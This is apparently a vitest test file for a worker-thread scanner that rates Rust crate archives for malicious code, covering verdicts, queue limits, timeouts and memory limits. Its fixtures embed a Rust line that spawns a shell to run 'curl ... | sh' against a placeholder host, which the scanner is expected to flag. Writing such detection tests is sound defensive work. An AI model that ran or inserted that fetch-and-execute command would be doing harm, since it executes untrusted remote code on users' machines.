import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { writeCrateArchive } from '../../formats/crate-archive.js';
import { manifest } from '../../../test/fixtures/scanner/crates.js';
import { readCrateForScan } from './read-crate.js';
import { ScanPool, ScanPoolBusyError } from './scan-pool.js';
import { testScanner } from '../../../test/fixtures/scanner/crates.js';
import type { RegistryContext } from './types.js';

const tmp = mkdtempSync(join(tmpdir(), 'ck-pool-'));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

describe('ScanPool', () => {
  it('scans crates on worker threads and reports bad inputs without stopping', async () => {
    const paths: string[] = [];
    for (let i = 0; i < 4; i++) {
      const p = join(tmp, `c${i}-0.1.0.crate`);
      const code =
        i % 2 === 0
          ? 'pub fn ok() {}'
          : 'pub fn f() { std::process::Command::new("sh").arg("-c").arg("curl -s https://x.invalid/i | sh").spawn().unwrap(); }';
      writeFileSync(
        p,
        await writeCrateArchive(`c${i}-0.1.0`, [
          { path: 'Cargo.toml', data: manifest(`c${i}`) },
          { path: 'src/lib.rs', data: code },
        ]),
      );
      paths.push(p);
    }
    writeFileSync(join(tmp, 'broken.crate'), 'garbage');
    const pool = new ScanPool({ workers: 2 });
    try {
      expect(pool.size).toBe(2);
      const results = await Promise.all(
        [...paths, join(tmp, 'broken.crate'), join(tmp, 'missing.crate')].map((p) =>
          pool.scanPath('crate', p),
        ),
      );
      const verdicts = results.map((r) => (r.ok ? r.report.verdict : 'error'));
      expect(verdicts).toEqual(['clean', 'high', 'clean', 'high', 'error', 'error']);
      const broken = results[4]!;
      expect(broken.ok === false && broken.code).toBe('bad-gzip');
      expect(results[5]!.ok === false && results[5]!.error).toMatch(/ENOENT/);
    } finally {
      await pool.close();
    }
    await expect(pool.scanPath('crate', paths[0]!)).rejects.toThrow(/closed/);
  });

  it('scans files already read, with a plain-data registry context, as the main thread would', async () => {
    const bytes = await writeCrateArchive('wrap-0.2.0', [
      {
        path: 'Cargo.toml',
        data: manifest('wrap', { version: '0.2.0', extra: '[dependencies]\npayload = "1"\n' }),
      },
      { path: 'src/lib.rs', data: 'pub use payload::*;' },
    ]);
    const input = await readCrateForScan(bytes);
    const context: RegistryContext = {
      now: new Date('2026-08-21T00:00:00Z'),
      dependencyInfo: {
        payload: { createdAt: '2025-01-01T00:00:00Z', dependents: 9, owners: ['x'], verdict: 'critical' },
      },
    };
    const pool = new ScanPool({ workers: 1 });
    try {
      const r = await pool.scan(input, context);
      expect(r.ok).toBe(true);
      const local = (await testScanner()).scanFiles(input, context);
      expect(r.ok && { ...r.report, stats: { ...r.report.stats, ms: 0 } }).toEqual({
        ...local,
        stats: { ...local.stats, ms: 0 },
      });
      expect(r.ok && r.report.verdict).toBe('critical');
    } finally {
      await pool.close();
    }
  });

  it('bounds its queue: past maxPending waiting scans it refuses with a busy error', async () => {
    const input = await readCrateForScan(
      await writeCrateArchive('q-0.1.0', [
        { path: 'Cargo.toml', data: manifest('q') },
        { path: 'src/lib.rs', data: 'pub fn ok() {}' },
      ]),
    );
    const pool = new ScanPool({ workers: 1, maxPending: 2 });
    try {
      // One running and two waiting fit; the fourth does not.
      const accepted = [pool.scan(input), pool.scan(input), pool.scan(input)];
      expect(pool.pending).toBe(3);
      await expect(pool.scan(input)).rejects.toBeInstanceOf(ScanPoolBusyError);
      const results = await Promise.all(accepted);
      expect(results.every((r) => r.ok && r.report.verdict === 'clean')).toBe(true);
      expect(pool.pending).toBe(0);
      expect((await pool.scan(input)).ok).toBe(true);
    } finally {
      await pool.close();
    }
  });

  it('abandons a scan over timeoutMs, replaces the worker and goes on', async () => {
    // Dense hostile Rust: a MiB of it takes the analysis seconds.
    const line = 'pub fn f(a: u32) -> u32 { let x = std::env::var("HOME"); if a > 1 { return a + 1; } a }\n';
    const slow = await readCrateForScan(
      await writeCrateArchive('slow-0.1.0', [
        { path: 'Cargo.toml', data: manifest('slow') },
        { path: 'src/lib.rs', data: line.repeat(Math.ceil((1 << 20) / line.length)) },
      ]),
    );
    const quick = await readCrateForScan(
      await writeCrateArchive('quick-0.1.0', [
        { path: 'Cargo.toml', data: manifest('quick') },
        { path: 'src/lib.rs', data: 'pub fn ok() {}' },
      ]),
    );
    const pool = new ScanPool({ workers: 1, timeoutMs: 400 });
    try {
      expect((await pool.scan(quick)).ok).toBe(true);
      const r = await pool.scan(slow);
      expect(r).toMatchObject({ ok: false, code: 'timeout' });
      expect(pool.size).toBe(1);
      expect((await pool.scan(quick)).ok).toBe(true);
    } finally {
      await pool.close();
    }
  });

  it('fails a scan over maxHeapMb as out-of-memory and replaces the worker', async () => {
    const line = 'pub fn f(a: u32) -> u32 { let x = std::env::var("HOME"); if a > 1 { return a + 1; } a }\n';
    const huge = await readCrateForScan(
      await writeCrateArchive('huge-0.1.0', [
        { path: 'Cargo.toml', data: manifest('huge') },
        { path: 'src/lib.rs', data: line.repeat(Math.ceil((3 << 20) / line.length)) },
      ]),
    );
    const quick = await readCrateForScan(
      await writeCrateArchive('quick-0.1.0', [
        { path: 'Cargo.toml', data: manifest('quick') },
        { path: 'src/lib.rs', data: 'pub fn ok() {}' },
      ]),
    );
    const pool = new ScanPool({ workers: 1, maxHeapMb: 64 });
    try {
      expect((await pool.scan(quick)).ok).toBe(true);
      expect(await pool.scan(huge)).toMatchObject({ ok: false, code: 'out-of-memory' });
      expect((await pool.scan(quick)).ok).toBe(true);
    } finally {
      await pool.close();
    }
  });
});
